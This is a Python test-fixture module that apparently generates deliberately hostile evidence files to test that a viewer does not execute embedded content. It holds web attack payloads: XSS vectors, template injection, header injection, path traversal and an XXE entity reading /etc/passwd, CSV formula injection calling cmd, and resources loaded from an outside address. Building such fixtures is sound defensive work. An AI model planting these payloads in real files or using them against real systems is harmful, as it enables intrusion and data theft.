"""Evidence made to run in whoever looks at it, and what is typed for the same end.

Here: files of many kinds with scripts, entities and addresses in names, texts, properties and cells; payloads.
Not here: what must not happen.
"""

from __future__ import annotations

import io
from pathlib import Path

BLNS = Path(__file__).resolve().parents[2] / ".." / "shared" / "evidence-pack" / "text_blns" / "files" / "blns.txt"
SCRIPT = "<script>alert(document.domain)</script>"
PAYLOADS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "'\"--></style></script><svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "{{7919*7907}}${7919*7907}<%= 7919*7907 %>",
    "\r\nSet-Cookie: planted=1\r\n\r\n<b>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd\x00.txt",
    '" onfocus=alert(1) autofocus x="',
    "\u202egpj.exe<iframe srcdoc='<script>parent.alert(1)</script>'>",
)


def hostile(away: str) -> dict[str, bytes]:
    """Files, some of which ask for something from the address `away`."""
    lure = f"<img src='{away}/i.png'><link rel=stylesheet href='{away}/s.css'><script src='{away}/s.js'></script>"
    files = {
        "hostile/<img src=x onerror=alert(1)>.txt": f"Lemons. Major <b>Kyaw</b> {SCRIPT} of LIB 345. [x](javascript:alert(1))\n",
        'hostile/"onmouseover="alert(1)" .txt': "\n\n".join(PAYLOADS).replace("\0", ""),
        "hostile/page.html": f"<html><head><title>{SCRIPT}</title><meta http-equiv=refresh content='0;url={away}/r'>{lure}</head>"
        f"<body onload=alert(1)><h1>Lemons</h1><iframe src='file:///etc/passwd'></iframe><form action='{away}/f'>"
        f"<object data='{away}/o'></object></body></html>",
        "hostile/drawing.svg": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>"
        f"<!ENTITY y SYSTEM '{away}/entity'>]><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
        f" onload='alert(1)'><script>alert(1)</script><image xlink:href='{away}/svg.png'/><text>Lemons &x; &y;</text></svg>",
        "hostile/mail.eml": f'From: "{SCRIPT}" <a@example.org>\r\nTo: "><svg onload=alert(1)> <b@example.org>\r\n'
        f"Subject: {SCRIPT} lemons\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<body onload=alert(1)>{lure}<p>Lemons</p></body>\r\n",
        "hostile/cells.csv": f"name,{SCRIPT}\n=cmd|' /C calc'!A1,lemons\n@SUM(1+1),\"<svg onload=alert(1)>\"\n-1+1,+1\n",
    }
    return {**{name: text.encode() for name, text in files.items()}, "hostile/picture.jpg": _picture(),
            **({"hostile/blns.txt": BLNS.read_bytes()} if BLNS.is_file() else {})}  # fmt: skip


def _picture() -> bytes:
    """A picture whose EXIF would like to be markup."""
    from PIL import ExifTags, Image

    exif, out = Image.Exif(), io.BytesIO()
    for tag in (ExifTags.Base.ImageDescription, ExifTags.Base.Artist, ExifTags.Base.Make, ExifTags.Base.Software):
        exif[tag] = SCRIPT
    Image.new("L", (40, 30), 128).save(out, "JPEG", exif=exif)
    return out.getvalue()
